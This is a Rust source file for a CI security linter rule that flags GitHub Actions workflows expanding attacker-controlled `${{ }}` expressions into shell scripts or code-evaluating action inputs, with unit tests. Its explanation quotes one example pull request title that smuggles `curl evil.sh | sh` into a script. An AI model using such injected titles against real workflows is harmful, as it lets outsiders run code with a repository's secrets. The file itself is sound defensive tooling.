use std::collections::HashMap;

use super::{each_github, nth_key};
use crate::ci::expr::{holds_untrusted, untrusted, ContextRef};
use crate::ci::flow::{ports_used_by, ActionPort, Flow, DATA};
use crate::ci::github::Step;
use crate::ci::Scalar;
use crate::context::Context;
use crate::finding::Violation;
use crate::policy::{Params, PolicyError};
use crate::rule::{declare_rule, Rule};

declare_rule! {
    id: "ci/template-injection",
    summary: "Attacker-controlled `${{ }}` expressions are not expanded into scripts",
    level: Error,
    tier: Gold,
    scope: PerFile,
    build: build,
    options: [
        {
            name: "sinks",
            kind: "array of strings",
            help: "Action inputs that evaluate their value as code, `\"owner/repo:input\"` \
                   (the action compared without letter case, at any ref), added to the \
                   built-in list of `crates/core/rules/ci/injection-sinks.toml`; a policy extending a pack \
                   adds more with `extend-sinks`. Default: none beyond the built-in list.",
        },
        {
            name: "sources",
            kind: "array of strings",
            help: "Action outputs that carry an outsider's text, `\"owner/repo:output\"` \
                   (`*` for every output), added to the built-in list (changed file names, \
                   branch names). Default: none beyond the built-in list.",
        },
        {
            name: "untrusted-inputs",
            kind: "boolean",
            help: "Treat `inputs.*` of reusable workflows, composite actions and manual runs \
                   as attacker-controlled. Default `false`: an input is whatever the caller \
                   passes, and the caller's own file is where an outsider's value enters, so \
                   this rule reports it there (an input of a manual run is typed by someone \
                   with write access). Turn it on for a reusable workflow or action that \
                   other repositories call with values this rule cannot see.",
        },
    ],
    what: "A `${{ }}` expression that reads a context an outsider controls, inside a \
           step's `run:` script (in workflows and composite actions) or an input of an \
           action that evaluates it as code: `script` of `actions/github-script`, `cmd` \
           of `mikefarah/yq`, `script` of `Amadevus/pwsh-script`, `inlineScript` of \
           `azure/cli` and `azure/powershell`, `run` and `options` of \
           `addnab/docker-run-action`, the templates of `tibdex/backport` and the rest \
           of the list in `crates/core/rules/ci/injection-sinks.toml` (taken from zizmor's list, \
           itself from GitHub's CodeQL models, both MIT-licensed), to which the \
           `sinks` option adds. The value is followed through `env:` at workflow, job \
           and step level (the innermost definition wins, as in GitHub: \
           `TITLE: ${{ github.event.issue.title }}` then `run: echo ${{ env.TITLE }}` \
           is reported at the `env.TITLE` expression), through step outputs \
           (`steps.X.outputs.Y` where step `X` writes `Y=...` from such a value or \
           variable to `$GITHUB_OUTPUT`, or is an action whose outputs carry an \
           outsider's text, such as `tj-actions/changed-files`), and through a job's \
           `outputs:` read as `needs.J.outputs.Y`. Writes to `$GITHUB_ENV` and values \
           computed by programs are not followed. The contexts: titles and bodies of issues, pull \
           requests, comments, reviews and discussions \
           (`github.event.pull_request.title`, `github.event.comment.body`, ...), branch \
           names (`github.head_ref`, `github.event.pull_request.head.ref` and `.label`, \
           `github.event.workflow_run.head_branch`), commit messages and authors \
           (`github.event.head_commit.message`, `github.event.commits[*].author.email`, \
           ...), wiki page names (`github.event.pages[*].page_name`), and a whole event \
           object passed to `toJSON`. Uses that only yield a boolean (`contains(...)`, \
           comparisons, `!`) are not reported. Each finding points at the exact line and \
           column of the expression, inside `|` and `>` block scalars and quoted strings \
           too (for an alias, at the alias).",
    why: "GitHub substitutes the expression's value into the script text before the \
          shell runs it. A pull request titled `a\"; curl evil.sh | sh; echo \"` then \
          runs the attacker's commands, with the workflow's secrets and token.",
    example: "```yaml\n- run: |\n    echo \"Title: ${{ github.event.pull_request.title \
              }}\"   # reported\n- env:\n    TITLE: ${{ github.event.pull_request.title \
              }}\n  run: echo \"Title: $TITLE\"                          # fine\n```",
    fix: "Pass the value through an environment variable (`env: TITLE: ${{ ... }}`) and \
          use it quoted in the script (`\"$TITLE\"`), or as `process.env.TITLE` in \
          `github-script`. The shell then treats it as data, never as code.",
}

struct TemplateInjection {
    /// Action inputs evaluated as code: the built-in list and the policy's.
    sinks: Vec<ActionPort>,
    /// Action outputs that carry an outsider's text.
    sources: Vec<ActionPort>,
    /// Whether `inputs.*` are an outsider's.
    untrusted_inputs: bool,
}

fn ports(
    params: &mut Params,
    key: &str,
    builtin: &[ActionPort],
) -> Result<Vec<ActionPort>, PolicyError> {
    let mut all = builtin.to_vec();
    if let Some((entries, origin)) = params.take_with_origin::<Vec<String>>(key)? {
        for entry in entries {
            let port = ActionPort::parse(&entry)
                .map_err(|e| origin.error(format!("`{key}` of rule `{}`: {e}", META.id)))?;
            if !all.contains(&port) {
                all.push(port);
            }
        }
    }
    Ok(all)
}

fn build(params: &mut Params) -> Result<Box<dyn Rule>, PolicyError> {
    Ok(Box::new(TemplateInjection {
        sinks: ports(params, "sinks", &DATA.sinks)?,
        sources: ports(params, "sources", &DATA.sources)?,
        untrusted_inputs: params.take("untrusted-inputs")?.unwrap_or(false),
    }))
}

/// The context an outsider controls that a reference reads, if any.
fn outsider(r: &ContextRef, inputs: bool) -> Option<String> {
    let direct = untrusted(&r.path).is_some()
        || (r.in_to_json && holds_untrusted(&r.path))
        || (inputs && r.path.starts_with("inputs."));
    direct.then(|| r.path.clone())
}

/// Where a script is evaluated: `run`, or an input of an action that evaluates it.
enum Sink {
    Run,
    Input { action: String, input: String },
}

impl TemplateInjection {
    /// The scripts of a step: `run`, and the inputs of actions that evaluate code.
    fn scripts(&self, step: &Step) -> Vec<(Scalar, Sink)> {
        let mut found = Vec::new();
        if let Some(run) = &step.run {
            found.push((run.clone(), Sink::Run));
        }
        let Some(with) = step.with.as_ref().and_then(|w| w.as_map()) else {
            return found;
        };
        for port in ports_used_by(&self.sinks, step) {
            for entry in with {
                let Some(key) = entry.key_str() else { continue };
                if !key.eq_ignore_ascii_case(&port.name) {
                    continue;
                }
                if let Some(value) = Scalar::from_node(&entry.value) {
                    found.push((
                        value,
                        Sink::Input {
                            action: port.action.clone(),
                            input: key.to_owned(),
                        },
                    ));
                }
            }
        }
        found
    }
}

impl Rule for TemplateInjection {
    fn wants(&self) -> Vec<String> {
        super::github_wants()
    }

    fn check(&self, cx: &Context<'_>, out: &mut Vec<Violation>) {
        each_github(cx, |file, github| {
            let text = github.text();
            let mut seen = HashMap::new();
            let inputs = self.untrusted_inputs;
            let source = move |r: &ContextRef| outsider(r, inputs);
            let flow = Flow {
                source: &source,
                outputs: &self.sources,
            };
            flow.each_step(github, |job, step, scope| {
                for (script, sink) in self.scripts(step) {
                    let found = flow.expressions(&script.value, scope);
                    if found.is_empty() {
                        continue;
                    }
                    let ranges: Vec<_> = found.iter().map(|(r, _)| r.clone()).collect();
                    let spans = text.locate_all(&script, &ranges);
                    for ((range, taint), span) in found.into_iter().zip(spans) {
                        let expression = &script.value[range];
                        let where_ = match &sink {
                            Sink::Run => "a `run` script".to_owned(),
                            Sink::Input { action, .. } if action == "actions/github-script" => {
                                "an `actions/github-script` script".to_owned()
                            }
                            Sink::Input { action, input } => {
                                format!("`{input}` of `{action}`, which evaluates it as code")
                            }
                        };
                        // Contexts are matched without letter case; the message names the
                        // reference as the workflow writes it (`env.TITLE`).
                        let written = expression
                            .to_ascii_lowercase()
                            .find(&taint.path)
                            .map_or(taint.path.as_str(), |at| {
                                &expression[at..at + taint.path.len()]
                            });
                        let what = if taint.direct() {
                            format!("attacker-controlled `{written}`")
                        } else if taint.origin.starts_with("the `") {
                            format!("`{written}`, which carries {}", taint.origin)
                        } else {
                            format!(
                                "`{written}`, which carries attacker-controlled `{}`",
                                taint.origin
                            )
                        };
                        let read_as = match &sink {
                            Sink::Run => "\"$VALUE\" in the script",
                            Sink::Input { action, .. } if action == "actions/github-script" => {
                                "process.env.VALUE in the script"
                            }
                            Sink::Input { .. } => "the environment variable from the code",
                        };
                        let help = if taint.path.starts_with("env.") {
                            format!(
                                "read the variable in the script instead of expanding it (use \
                                 {read_as})"
                            )
                        } else {
                            format!(
                                "pass it through `env:` (such as `VALUE: {expression}`) and use \
                                 {read_as}"
                            )
                        };
                        out.push(
                            Violation::file(
                                &file.path,
                                format!("`{expression}` expands {what} into {where_}"),
                            )
                            .span(span)
                            .help(help)
                            .key(nth_key(format!("{job}:{}", taint.path), &mut seen)),
                        );
                    }
                }
            });
        });
    }
}

#[cfg(test)]
mod tests {
    use super::super::test_support::lines;
    use crate::testing::check;

    const POLICY: &str = "[rules.\"ci/template-injection\"]\n";

    fn workflow(run: &str) -> String {
        format!("on: pull_request\njobs:\n  a:\n    steps:\n      - run: {run}\n")
    }

    /// `(line, column, end column)` of each finding.
    fn found(run: &str) -> Vec<(u32, u32, u32)> {
        let text = workflow(run);
        check(POLICY, &[(".github/workflows/ci.yml", &text)])
            .iter()
            .map(|f| {
                let s = f.span.unwrap();
                (s.line, s.column, s.end_column)
            })
            .collect()
    }

    const TITLE: &str = "${{ github.event.pull_request.title }}";

    #[test]
    fn literal_block_scalars() {
        // `- run: |` at line 5; the expression on the script's second line.
        let run = format!("|\n          echo start\n          echo \"{TITLE}\"\n");
        assert_eq!(found(&run), [(7, 17, 17 + 38)]);
        let run = format!("|-\n          x\n\n          y {TITLE}\n");
        assert_eq!(found(&run), [(8, 13, 13 + 38)]);
        // Indentation indicator: two spaces of indentation, the rest is content.
        let run = format!("|2\n            a\n           {TITLE}\n");
        assert_eq!(found(&run), [(7, 12, 12 + 38)]);
    }

    #[test]
    fn folded_and_plain_multi_line_scalars() {
        let run = format!(">\n          echo a\n          b {TITLE}\n\n          c\n");
        assert_eq!(found(&run), [(7, 13, 13 + 38)]);
        let run = format!("echo one\n          two {TITLE}\n");
        assert_eq!(found(&run), [(6, 15, 15 + 38)]);
    }

    #[test]
    fn quoted_scalars_with_escapes() {
        // `      - run: ` is 13 characters: the value starts at column 14.
        let run = format!("'it''s {TITLE}'");
        assert_eq!(found(&run), [(5, 21, 21 + 38)]);
        let run = format!("\"a \\\"q\\\" \\t {TITLE}\"");
        assert_eq!(found(&run), [(5, 26, 26 + 38)]);
        // An escaped line break joins the lines; the expression is on the next one.
        let run = format!("\"echo \\\n          {TITLE}\"");
        assert_eq!(found(&run), [(6, 11, 11 + 38)]);
    }

    #[test]
    fn columns_count_characters() {
        let run = format!("|\n          echo \"é→ {TITLE}\"\n");
        assert_eq!(found(&run), [(6, 20, 20 + 38)]);
    }

    #[test]
    fn aliases_fall_back_to_the_alias() {
        let text = format!(
            "on: issues\nx: &s \"echo {TITLE}\"\njobs:\n  a:\n    steps:\n      - run: *s\n"
        );
        let findings = check(POLICY, &[(".github/workflows/ci.yml", &text)]);
        assert_eq!(lines(&findings), [(6, 14)]);
    }

    #[test]
    fn many_contexts_and_safe_uses() {
        let run = "|\n          echo ${{ github.head_ref }} ${{ github.event.issue.body }}\n          \
                   echo ${{ github.event.commits[0].message }} ${{ toJSON(github.event.pull_request) }}\n          \
                   echo ${{ github.event.pull_request.number }} ${{ github.sha }} ${{ contains(github.event.issue.title, 'x') }}\n          \
                   echo ${{ github.event.pull_request.title == 'x' }} ${{ inputs.name }}\n";
        let positions: Vec<(u32, u32)> = found(run).into_iter().map(|(l, c, _)| (l, c)).collect();
        assert_eq!(positions, [(6, 16), (6, 39), (7, 16), (7, 55)]);
    }

    #[test]
    fn github_script_and_composite_actions() {
        let workflow = "on: issue_comment\njobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        \
                        with:\n          script: |\n            const b = `${{ github.event.comment.body }}`\n";
        let action = "runs:\n  using: composite\n  steps:\n    - shell: bash\n      \
                      run: echo \"${{ github.event.head_commit.message }}\"\n";
        let findings = check(
            POLICY,
            &[
                (".github/workflows/c.yml", workflow),
                ("action.yml", action),
            ],
        );
        assert_eq!(lines(&findings), [(8, 24), (5, 18)], "{findings:#?}");
        assert!(findings[0].message.contains("github-script"));
    }

    #[test]
    fn env_indirection_is_fine() {
        let text = "on: pull_request\njobs:\n  a:\n    steps:\n      - env:\n          \
                    T: ${{ github.event.pull_request.title }}\n        run: echo \"$T\"\n";
        assert!(check(POLICY, &[(".github/workflows/ci.yml", text)]).is_empty());
    }
    #[test]
    fn inputs_of_actions_that_evaluate_code() {
        let text = "on: pull_request\njobs:\n  a:\n    steps:\n      - uses: mikefarah/yq@v4\n        \
                    with:\n          cmd: ${{ github.event.pull_request.title }}\n      \
                    - uses: Amadevus/pwsh-script@v2\n        with:\n          script: |\n            \
                    Write-Host \"${{ github.head_ref }}\"\n      - uses: my/evaluator@v1\n        \
                    with:\n          code: ${{ github.event.issue.body }}\n          \
                    other: ${{ github.event.issue.body }}\n";
        let findings = check(POLICY, &[(".github/workflows/ci.yml", text)]);
        assert_eq!(lines(&findings), [(7, 16), (11, 25)], "{findings:#?}");
        assert!(findings[0].message.contains("`cmd` of `mikefarah/yq`"));
        // The policy adds a sink to the built-in list.
        let policy = "[rules.\"ci/template-injection\"]\nsinks = [\"my/evaluator:code\"]\n";
        let findings = check(policy, &[(".github/workflows/ci.yml", text)]);
        assert_eq!(lines(&findings), [(7, 16), (11, 25), (14, 17)]);
    }

    #[test]
    fn env_at_every_level_innermost_wins() {
        let text = "on: issues\nenv:\n  W: ${{ github.event.issue.title }}\n  S: safe\njobs:\n  a:\n    \
                    env:\n      J: ${{ github.event.issue.body }}\n      W: ok\n    steps:\n      \
                    - run: echo ${{ env.W }} ${{ env.J }} ${{ env.S }} \"$J\"\n      \
                    - run: echo ${{ env.st }}\n        env:\n          ST: ${{ github.event.issue.title }}\n          \
                    J: fixed\n      - run: echo ${{ env.J }}\n        env:\n          J: fixed\n  \
                    b:\n    steps:\n      - run: echo ${{ env.W }}\n";
        let findings = check(POLICY, &[(".github/workflows/ci.yml", text)]);
        assert_eq!(
            lines(&findings),
            [(11, 32), (12, 19), (21, 19)],
            "{findings:#?}"
        );
        assert!(
            findings[0]
                .message
                .contains("`env.J`, which carries attacker-controlled `github.event.issue.body`"),
            "{}",
            findings[0].message
        );
    }

    #[test]
    fn step_and_job_outputs_carry_the_value() {
        let text = "on: pull_request_target\njobs:\n  a:\n    outputs:\n      title: ${{ steps.t.outputs.title }}\n      \
                    n: ${{ steps.t.outputs.n }}\n    steps:\n      - id: t\n        env:\n          \
                    T: ${{ github.event.pull_request.title }}\n        run: |\n          \
                    echo \"title=$T\" >> \"$GITHUB_OUTPUT\"\n          echo \"n=1\" >> \"$GITHUB_OUTPUT\"\n      \
                    - id: files\n        uses: tj-actions/changed-files@v45\n      \
                    - run: echo ${{ steps.t.outputs.title }} ${{ steps.t.outputs.n }} ${{ steps.files.outputs.all_changed_files }}\n  \
                    b:\n    needs: a\n    steps:\n      - run: echo ${{ needs.a.outputs.title }} ${{ needs.a.outputs.n }}\n";
        let findings = check(POLICY, &[(".github/workflows/ci.yml", text)]);
        assert_eq!(
            lines(&findings),
            [(16, 19), (16, 73), (20, 19)],
            "{findings:#?}"
        );
        assert!(findings[1].message.contains("`tj-actions/changed-files`"));
    }

    #[test]
    fn inputs_are_untrusted_only_when_the_policy_says_so() {
        let action =
            "inputs:\n  x: {}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      \
                      run: echo \"${{ inputs.x }}\"\n";
        assert!(check(POLICY, &[("action.yml", action)]).is_empty());
        let policy = "[rules.\"ci/template-injection\"]\nuntrusted-inputs = true\n";
        let findings = check(policy, &[("action.yml", action)]);
        assert_eq!(lines(&findings), [(7, 18)]);
    }

    #[test]
    fn a_malformed_sink_is_a_policy_error() {
        use crate::policy::{FsReader, Policy};
        let policy = "[rules.\"ci/template-injection\"]\nsinks = [\"yq\"]\n";
        let policy = Policy::from_text(
            "goldpath.toml",
            policy,
            std::path::Path::new("."),
            &FsReader,
        )
        .expect("the policy parses");
        let Err(err) = crate::engine::Engine::new(&crate::registry::Registry::builtin(), &policy)
        else {
            panic!("the sink is rejected");
        };
        assert!(
            err.to_string().contains("`yq` must be `owner/repo:input`"),
            "{err}"
        );
    }
}
